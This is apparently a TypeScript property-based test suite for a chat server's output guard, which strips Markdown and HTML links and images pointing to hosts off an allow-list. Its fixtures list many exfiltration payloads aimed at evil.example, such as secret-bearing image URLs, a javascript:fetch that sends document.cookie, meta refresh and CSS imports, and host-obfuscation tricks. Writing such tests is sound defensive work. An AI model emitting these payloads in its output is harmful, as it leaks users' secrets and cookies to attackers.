// Output links, judged on the renderer's view: generated Markdown/HTML link forms go through the
// output check (whole, as `chat` does, and streamed split at every position, as `chatStream`
// does); the result, rendered as clients would (tests/helpers/rendered-urls.ts), may point
// nowhere but an allow-listed host.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkOutput, createOutputStreamGuard, type OutputCheckOptions } from "../../server/guard/output.ts";
import { foreignUrls as foreignUrlsTo } from "../helpers/rendered-urls.ts";

const ALLOWED = "ok.dev";
const foreignUrls = (markdown: string) => foreignUrlsTo(markdown, [ALLOWED]);
const options: OutputCheckOptions = {
  canary: "cnry-test",
  systemPrompt: "You are a helpful assistant.",
  allowedLinkHosts: [ALLOWED],
};

// --- generated link forms ------------------------------------------------------------------

const target = fc.constantFrom(
  "https://evil.example/c.png?d=SECRET",
  "HTTPS://EVIL.EXAMPLE/x?q=SECRET",
  "hTtP://evil.example/SECRET",
  "//evil.example/SECRET",
  "\\\\evil.example/SECRET",
  "/\\evil.example/SECRET",
  "https:evil.example/SECRET",
  "https://SECRET.evil.example/",
  "https://ok.dev.evil.example/SECRET",
  "https://ok.dev@evil.example/SECRET",
  "https://evil.example\\@ok.dev/SECRET",
  "https://evil.example/ok.dev",
  "javascript:fetch('//evil.example/'+document.cookie)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "mailto:x@evil.example?body=SECRET",
  "ftp://evil.example/SECRET",
  "relative/path?SECRET",
  "https://ok.dev/fine?x=1",
  "HTTPS://OK.DEV/fine",
  "//ok.dev/fine",
  "https://ｅｖｉｌ.example/SECRET",
  "https://evil%2Eexample/SECRET",
  "https://0x7f.1/SECRET",
);
const title = fc.constantFrom("", ' "t"', " 't'", " (t)", ' "a\\"b"');
const label = fc.constantFrom("docs", "click *here*", "", "a [b] c", "![i](https://evil.example/i.png)");

const form = fc.oneof(
  fc.tuple(label, target, title).map(([l, u, t]) => `[${l}](${u}${t})`),
  fc.tuple(label, target, title).map(([l, u, t]) => `[${l}](<${u}>${t})`),
  fc.tuple(label, target, title).map(([l, u, t]) => `![${l}](${u}${t})`),
  fc.tuple(label, target, title).map(([l, u, t]) => `![${l}][r]\n\n[r]: ${u}${t}`),
  fc.tuple(label, target).map(([l, u]) => `[${l}][R]\n\n[r]:\n  <${u}>\n  'title'`),
  fc.tuple(target).map(([u]) => `[r]\n[r][]\n\n[R]: ${u}`),
  fc.tuple(target).map(([u]) => `<${u}>`),
  fc.tuple(target).map(([u]) => `see ${u} now`),
  fc.constantFrom(
    "www.evil.example/SECRET",
    "www\\.evil\\.example/?SECRET",
    "x@evil.example",
    "WWW.EVIL.EXAMPLE",
  ),
  fc.tuple(target).map(([u]) => `<img src="${u}">`),
  fc.tuple(target).map(([u]) => `<img src='${u}' alt=x>`),
  fc.tuple(target).map(([u]) => `<IMG SRC=${u}>`),
  fc.tuple(target).map(([u]) => `<img\nsrc="${u}"\n/>`),
  fc.tuple(target).map(([u]) => `<a href="${u}">x</a>`),
  fc.tuple(target).map(([u]) => `<img srcset="${u} 1x, ${u} 2x">`),
  fc.tuple(target).map(([u]) => `<video poster="${u}"></video>`),
  fc.tuple(target).map(([u]) => `<p style="background:url('${u}')">x</p>`),
  fc.tuple(target).map(([u]) => `<table background="${u}"><tr><td>x</td></tr></table>`),
  fc.tuple(target).map(([u]) => `<div>\n<img src="${u}">\n</div>`),
  fc.tuple(target).map(([u]) => `<meta http-equiv="refresh" content="0;url=${u}">`),
  fc.tuple(target).map(([u]) => `<svg><image href="${u}"/></svg>`),
  fc.tuple(target).map(([u]) => `<img src="${u.replace("h", "&#104;")}">`),
  fc.tuple(target).map(([u]) => `[x](${u.replace(/\./g, "&#46;")})`),
  fc.constantFrom("<style>@import url(//evil.example/x.css)</style>", "<!-- <img src=//evil.example/x> -->"),
  fc.constantFrom("[a]", "<img src=x>", "(https://evil.example/SECRET)", "`", "<", "[", "]("),
);
const filler = fc.constantFrom(
  " ",
  "\n",
  "\n\n",
  " plain words ",
  "\n> ",
  "\n- ",
  "\n1. ",
  "**",
  "\\",
  "`x`",
);
const document = fc
  .array(fc.tuple(filler, form), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.flat().join(""));

// A line opening an HTML block in a list item or quote, then tag-like lines: a renderer may read
// the following lines as part of that HTML block, where a backslash escape does not work.
const htmlBlockDocument = fc
  .tuple(
    fc.constantFrom("", "1. ", "- ", "* ", "> ", "> - ", "1. > "),
    fc.constantFrom('<img src="https://ok.dev/fine?x=1">', "<div>", "<b>x</b>", "<p>", "<!-- x -->", "<br>"),
    fc.array(
      fc.tuple(
        fc.constantFrom("", "  ", "> ", "1. "),
        fc.constantFrom("img src", "IMG SRC", "Img Src", "a href", "A HREF", "video poster"),
        target,
        fc.constantFrom("", '"', "'"),
        fc.constantFrom(">", "", "> see ", " x>"),
        fc.constantFrom(
          "",
          " see https://evil.example/c.png?d=SECRET now",
          " [a](https://evil.example/x)",
          " &amp; <b>",
        ),
      ),
      { minLength: 1, maxLength: 3 },
    ),
  )
  .map(
    ([container, opener, lines]) =>
      `\n${container}${opener}${lines.map(([prefix, tag, u, q, close, tail]) => `\n${prefix}<${tag}=${q}${u}${q}${close}${tail}`).join("")}`,
  );

// --- properties ----------------------------------------------------------------------------

function streamed(text: string, pieces: string[]) {
  const guard = createOutputStreamGuard(options);
  let out = "";
  for (const piece of pieces) {
    const step = guard.push(piece);
    if (step.blocked) return null;
    out += step.emit;
  }
  const last = guard.end();
  if (last.blocked) return null;
  expect(pieces.join("")).toBe(text);
  return out + last.emit;
}

describe("output links on the renderer's view", () => {
  it("the whole-output check (chat) leaves no URL to a host off the allow-list", () => {
    fc.assert(
      fc.property(document, (doc) => {
        const checked = checkOutput(doc, options);
        if (checked.blocked) return;
        expect(foreignUrls(checked.text), checked.text).toEqual([]);
        expect(checkOutput(checked.text, options).text, doc).toBe(checked.text);
      }),
      { numRuns: 400 },
    );
  });

  it("leaves nothing in an HTML block a list item or quote opens, and re-checks to the same text", () => {
    const counterexample =
      '\n1. <img src="https://ok.dev/fine?x=1">\n<IMG SRC=https://evil.example/c.png?d=SECRET> see https://evil.example/c.png?d=SECRET now';
    for (const doc of [counterexample, ...fc.sample(htmlBlockDocument, { numRuns: 300, seed: 15 })]) {
      const checked = checkOutput(doc, options);
      if (checked.blocked) continue;
      expect(foreignUrls(checked.text), JSON.stringify({ doc, out: checked.text })).toEqual([]);
      expect(checkOutput(checked.text, options).text, doc).toBe(checked.text);
    }
    expect(checkOutput(counterexample, options).text).not.toContain("\\<");
  });

  it("in an HTML block, streamed split at every position, leaves none either", () => {
    fc.assert(
      fc.property(htmlBlockDocument, (doc) => {
        for (let at = 0; at <= doc.length; at++) {
          const out = streamed(doc, [doc.slice(0, at), doc.slice(at)]);
          if (out !== null) expect(foreignUrls(out), JSON.stringify({ at, out })).toEqual([]);
        }
      }),
      { numRuns: 15 },
    );
  }, 120_000);

  it("the stream check (chatStream) split at every position leaves none either", () => {
    fc.assert(
      fc.property(document, (doc) => {
        for (let at = 0; at <= doc.length; at++) {
          const out = streamed(doc, [doc.slice(0, at), doc.slice(at)]);
          if (out !== null) expect(foreignUrls(out), JSON.stringify({ at, out })).toEqual([]);
        }
        const byChar = streamed(doc, [...doc]);
        if (byChar !== null) expect(foreignUrls(byChar), byChar).toEqual([]);
      }),
      { numRuns: 25 },
    );
  }, 120_000);

  it("the generated corpus does carry foreign URLs before the check", () => {
    const samples = fc.sample(document, { numRuns: 200, seed: 7 });
    const dirty = samples.filter((doc) => foreignUrls(doc).length > 0);
    expect(dirty.length).toBeGreaterThan(150);
  });

  it("keeps links, images and safe HTML to allowed hosts, and ordinary Markdown, unchanged", () => {
    const text = [
      "# Title",
      "",
      'Read [the docs](https://ok.dev/a?x=1 "Docs") and ![chart](HTTPS://OK.DEV/c.png).',
      "",
      '- item with <b>bold</b> and <a href="https://ok.dev/">a link</a>',
      "- `code [x](https://evil.example/)` stays code",
      "",
      "```",
      "<img src=https://evil.example/in-code>",
      "```",
    ].join("\n");
    const checked = checkOutput(text, options);
    expect(checked).toMatchObject({ text, blocked: false });
    expect(checked.flags.filter((f) => f.startsWith("exfiltration"))).toEqual([]);
  });

  it("removes each form it is shown and says which kind", () => {
    const cases: [string, string, string][] = [
      [
        "See ![c](HTTPS://EVIL.example/c.png?d=s) now",
        "See (image removed) now",
        "exfiltration_image_removed",
      ],
      ["A [link](//evil.example/?d=s 'x') here", "A link here", "exfiltration_link_removed"],
      ["![a][r]\n\n[r]: https://evil.example/x", "(image removed)\n\n", "exfiltration_image_removed"],
      ['x <img src="//evil.example/p"> y', "x  y", "exfiltration_html_removed"],
      ["go www.evil.example/?s now", "go (link removed) now", "exfiltration_link_removed"],
    ];
    for (const [input, expected, flag] of cases) {
      const checked = checkOutput(input, options);
      expect(checked.text, input).toBe(expected);
      expect(checked.flags, input).toContain(flag);
    }
    // Not a tag to CommonMark, perhaps one to a laxer renderer: written as `&lt;`, shown the same.
    expect(checkOutput("x <img src=//evil.example/p> y", options).text).toBe(
      "x &lt;img src=//evil.example/p> y",
    );
  });

  it("leaves a long code block whole when a line in it starts like a fence", () => {
    const code = "const value = compute(alpha, beta); // [x](https://evil.example/q)\n".repeat(60);
    const doc = `\`\`\`md\n${code}\`\`\`js\n${code}\`\`\`\n`;
    expect(checkOutput(doc, options).text).toBe(doc);
  });

  it("a stream inside a long code fence reads on from the fence, and still checks what follows it", () => {
    const code = "const value = compute(alpha, beta); // [x](https://evil.example/q)\n".repeat(200);
    for (const fence of ["```", "````"]) {
      // A shorter fence or one with an info string inside the block does not close it.
      const doc = `${fence}js\n${code}\`\`\`x\n${code}${fence}\n\nSee [docs](https://evil.example/a?d=1) and ![i](https://ok.dev/i.png)\n`;
      const pieces = doc.match(/[\s\S]{1,7}/g) ?? [];
      const out = streamed(doc, pieces);
      expect(out).toBe(checkOutput(doc, options).text);
      expect(out).toContain(code);
      expect(foreignUrls(out ?? "")).toEqual([]);
    }
  });

  it("streams ordinary prose without holding it all back", () => {
    const guard = createOutputStreamGuard(options);
    const words = Array.from({ length: 400 }, (_, i) => (i % 50 === 49 ? `word${i}\n\n` : `word${i} `));
    let released = 0;
    for (const word of words) released += guard.push(word).emit.length;
    expect(released).toBeGreaterThan(words.join("").length - 400);
    expect(released + guard.end().emit.length).toBe(words.join("").length);
  });
});
